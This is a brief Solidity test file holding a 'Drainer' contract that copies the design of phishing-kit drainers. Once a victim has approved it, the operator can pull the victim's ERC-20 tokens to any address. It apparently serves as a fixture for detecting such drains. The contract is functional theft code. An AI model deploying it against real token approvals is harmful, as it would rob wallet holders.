// SPDX-License-Identifier: UNLICENSED
// Test-only drainer: the shape of phishing kits, where the victim approves this contract and the
// attacker's account calls it to pull the tokens (so tx.to is the approved spender, not the token).
pragma solidity ^0.8.20;

interface IERC20Like {
    function transferFrom(address from, address to, uint256 value) external returns (bool);
}

contract Drainer {
    address public immutable operator;

    constructor() {
        operator = msg.sender;
    }

    function drain(address token, address victim, address to, uint256 value) external {
        require(msg.sender == operator, "operator");
        require(IERC20Like(token).transferFrom(victim, to, value), "transferFrom");
    }
}
